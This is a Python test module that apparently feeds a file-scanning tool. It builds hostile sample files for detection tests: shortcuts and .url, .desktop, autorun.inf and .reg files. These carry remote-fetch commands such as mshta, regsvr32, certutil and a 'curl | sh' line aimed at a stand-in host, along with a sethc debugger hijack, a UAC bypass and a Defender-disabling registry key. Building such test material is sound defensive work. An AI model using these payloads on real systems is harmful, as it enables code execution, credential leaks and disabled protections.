"""Shortcuts, link files, and what starts by itself."""

from tests.samples.files import elf, pe, shortcut
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
SYSTEM = "C:\\Windows\\System32\\"


def cases() -> list[Case]:
    """Commands, foreign targets, stand-ins, remote icons, autorun, desktop entries, macOS links and registry files."""
    return [*_commands(), *_remote(), *_stand_ins(), *_icons(), *_autorun(), *_entries(), *_registry()]


def _commands() -> list[Case]:
    lines = [
        shortcut(SYSTEM + "cmd.exe", "/c start explorer Pictures & start /b Pictures\\v.exe"),
        shortcut(SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", '-nop -w hidden -c "& {gc .\\~.tmp | iex}"'),
        shortcut(SYSTEM + "mshta.exe", "https://files.example.net/a.hta"),
        shortcut(SYSTEM + "rundll32.exe", "usb.dat,Start"),
        shortcut(SYSTEM + "wscript.exe", "//e:vbscript data.db"),
        shortcut("", " " * 260 + "/c ver", environment="%ComSpec%"),
        shortcut("", '/q /c "ping -n 1 files.example.net"', environment="%windir%\\system32\\cmd.exe"),
        shortcut("C:\\Windows\\explorer.exe", "\\\\files.example.net\\share\\x.exe"),
        shortcut(SYSTEM + "conhost.exe", "--headless cmd /c tool.bat"),
        shortcut(SYSTEM + "regsvr32.exe", "/s /i:http://files.example.net/a.sct scrobj.dll", icon="C:\\Windows\\System32\\shell32.dll"),
        shortcut(SYSTEM + "msiexec.exe", "/q /i https://files.example.net/p.msi"),
        shortcut(SYSTEM + "forfiles.exe", '/p c:\\windows /m notepad.exe /c "cmd /c ver"'),
        shortcut("C:\\Users\\Public\\reader.exe", "\t" * 400 + "--load doc"),
        shortcut(SYSTEM + "certutil.exe", "-urlcache -f http://files.example.net/x x.exe", name="Type: Microsoft Word Document"),
        shortcut(SYSTEM + "schtasks.exe", "/create /tn a /tr b.exe -w hidden"),
        _by_list("cmd.exe", "/v:on /c ver"),
    ]
    return [single("shortcut: command", f"Photos {n}.lnk", body, "shortcut.command", least=HIGH) for n, body in enumerate(lines)]


def _by_list(program: str, arguments: str) -> bytes:
    """A shortcut whose target stands only in its item list."""
    drive = b"\x2fC:\\" + bytes(19)
    parts = [b"\x1f\x50" + bytes.fromhex("e04fd020ea3a6910a2d808002b30309d"), drive]
    parts += [
        kind + b"\0" + bytes(10) + name.encode() + b"\0" for kind, name in ((b"\x31", "Windows"), (b"\x31", "System32"), (b"\x32", program))
    ]
    items = b"".join((len(part) + 2).to_bytes(2, "little") + part for part in parts) + b"\0\0"
    plain = bytearray(shortcut("", arguments))
    plain[20] |= 1
    return bytes(plain[:0x4C]) + len(items).to_bytes(2, "little") + items + bytes(plain[0x4C:])


def _remote() -> list[Case]:
    link = "[InternetShortcut]\r\nURL={}\r\n".format
    search = f"search-ms:query=a&crumb=location:\\\\{HOST}\\docs&displayname=Downloads"
    property_list = '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>{}</string></dict></plist>'.format
    files = [
        ("Plan.lnk", shortcut(f"\\\\{HOST}\\share\\plan.exe", unc=True), HIGH),
        ("Web.lnk", shortcut(f"\\\\{HOST}@SSL\\DavWWWRoot\\a.exe"), HIGH),
        ("Env.lnk", shortcut("", environment=f"\\\\{HOST}\\s\\a.hta"), HIGH),
        ("a.url", link(f"file://{HOST}/s/open.exe").encode(), HIGH),
        ("b.url", link(f"\\\\{HOST}\\s\\open.js").encode("utf-16"), HIGH),
        ("c.url", b"junk\r\n\r\n" + link("file:///C:/Windows/System32/calc.exe").encode(), MEDIUM),
        ("d.url", link("javascript:1").encode(), MEDIUM),
        ("e.url", link(search).encode(), HIGH),
        ("f.url", link(search.replace("\\", "%5C")).encode(), HIGH),
        ("g.url", link("https://example.net/").encode() + f"WorkingDirectory=\\\\{HOST}\\s\\\r\n".encode(), HIGH),
        ("h.website", link("ms-msdt:/id PCWDiagnostic").encode(), MEDIUM),
        ("i.webloc", property_list("file:///Applications/Utilities/Terminal.app").encode(), MEDIUM),
        ("j.inetloc", property_list("FiLe:////System/Applications/Calculator.app").encode(), MEDIUM),
        ("k.fileloc", property_list(f"smb://{HOST}/share").encode(), HIGH),
        ("m.html", f"<html><img src='file://{HOST}/s/a.png'></html>".encode(), MEDIUM),
        ("n.htm", f'<html><body background="\\\\{HOST}\\s\\a.png"></html>'.encode(), MEDIUM),
        ("o.html", f'<html><meta http-equiv="refresh" content="0;url=file://{HOST}/s/a.hta"></html>'.encode(), MEDIUM),
        ("p.m3u", f"#EXTM3U\n\\\\{HOST}\\s\\a.mp3\n".encode(), MEDIUM),
        ("q.wpl", f'<?wpl version="1.0"?><smil><media src="\\\\{HOST}\\s\\a.mp3"/></smil>'.encode(), MEDIUM),
        ("l.webloc", b"bplist00\xd1\1\2SURL_\x10\x25file:///Applications/Calculator.app\x08", MEDIUM),
    ]
    return [single("link to a program or foreign machine", name, body, "shortcut.remote", least=least) for name, body, least in files]


def _stand_ins() -> list[Case]:
    lnk = shortcut(SYSTEM + "cmd.exe", "/c start x", icon=SYSTEM + "shell32.dll")
    pairs = [
        {"Photos.lnk": lnk, "Photos/a.txt": b"1"},
        {"Work - Shortcut.lnk": lnk, "Work/a.txt": b"1"},
        {"Data.LNK": lnk, "\u00a0/Data/a.txt": b"1"},
    ]
    return [Case(kind="shortcut in a folder's place", files=files, expected=("shortcut.folder-disguise",)) for files in pairs]


def _icons() -> list[Case]:
    library = f'<libraryDescription xmlns="http://x"><searchConnectorDescription><simpleLocation><url>\\\\{HOST}\\s</url></simpleLocation></searchConnectorDescription></libraryDescription>'
    files = {
        "a.scf": f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{HOST}\\i.ico\r\n".encode(),
        "b.url": f"[InternetShortcut]\r\nURL=https://example.net\r\nIconFile=\\\\{HOST}\\%USERNAME%.ico\r\n".encode(),
        "desktop.ini": f"[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\i.dll,0\r\n".encode("utf-16"),
        "c.library-ms": b'<?xml version="1.0"?>' + library.encode(),
        "d.searchConnector-ms": f'<?xml version="1.0"?><s xmlns="x"><iconReference>\\\\{HOST}\\i.ico</iconReference></s>'.encode(),
        "e.theme": f"[Theme]\r\nBrandImage=\\\\{HOST}\\b.png\r\n[Control Panel\\Desktop]\r\nWallpaper=a\r\n".encode(),
        "f.lnk": shortcut("C:\\a.txt", icon=f"\\\\{HOST}\\s\\i.ico"),
        "folder/Desktop.ini": f"[.ShellClassInfo]\r\nIconFile=//{HOST}/s/i.ico\r\nIconIndex=0\r\n".encode(),
    }
    return [single("icon or content from a foreign machine", name, body, "autorun.remote-icon", least=HIGH) for name, body in files.items()]


def _autorun() -> list[Case]:
    text = ";x\r\n[AutoRun]\r\n\0\0garbage\r\nshell\\open\\command = viewer.exe /s\r\nicon=shell32.dll,4\r\naction=Open folder\r\n"
    pair = {"AUTORUN.INF": text.encode("utf-16"), "viewer.exe": pe()}
    return [
        Case(kind="autorun.inf", files=pair, expected=("autorun.inf",), least=Severity.CRITICAL, at_root=True),
        Case(
            kind="desktop start file", files={".autorun": b"#!/bin/sh\nid\n"}, expected=("autorun.desktop-entry",), least=HIGH, at_root=True
        ),
        Case(
            kind="desktop start file",
            files={"autorun.sh": b"#!/bin/sh\n./run\n"},
            expected=("autorun.desktop-entry",),
            least=HIGH,
            at_root=True,
        ),
    ]


def _entries() -> list[Case]:
    entry = "[Desktop Entry]\nType=Application\nName={}\nIcon={}\nExec={}\n".format
    workflow = b'<?xml version="1.0"?><plist><dict><key>COMMAND_STRING</key><string>open .</string></dict></plist>'
    files = [
        ("Trip.pdf.desktop", entry("Trip.pdf", "application-pdf", "sh -c 'xdg-open t.pdf; ./.x'").encode(), HIGH),
        ("Photos.desktop", entry("Photos", "folder", 'bash -c "curl -s http://files.example.net | sh"').encode(), HIGH),
        ("Notes.desktop", entry("Notes", "gedit", "./notes.bin").encode(), MEDIUM),
        ("Map.desktop", b"#!/usr/bin/env xdg-open\n" + entry("Map", "image-x", "python3 -c 'print(1)'").encode(), HIGH),
        ("Install.command", b"#!/bin/zsh\nopen x.app\n", MEDIUM),
        ("Read me.terminal", b'<?xml version="1.0"?><plist><dict><key>CommandString</key><string>id</string></dict></plist>', MEDIUM),
        ("Quick.workflow/Contents/document.wflow", workflow, MEDIUM),
    ]
    return [single("desktop entry that runs a command", name, body, "autorun.desktop-entry", least=least) for name, body, least in files]


def _registry() -> list[Case]:
    head = "Windows Registry Editor Version 5.00\r\n\r\n"
    bodies = [
        head + '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\r\n"x"="E:\\\\a.exe"\r\n',
        head
        + '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]\r\n"Debugger"="c:\\\\windows\\\\cmd.exe"\r\n',
        head + '[HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command]\r\n@="a.exe"\r\n',
        head + '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n"DisableAntiSpyware"=dword:00000001\r\n',
        'REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word\\Security]\r\n"VBAWarnings"=dword:1\r\n',
    ]
    return [
        single("registry file", f"settings{n}.reg", body.encode("utf-16" if n % 2 else "ascii"), "autorun.registry", least=HIGH)
        for n, body in enumerate(bodies)
    ] + [single("program behind a text's name", "Notes.txt", elf(), "executable.disguised", least=HIGH)]
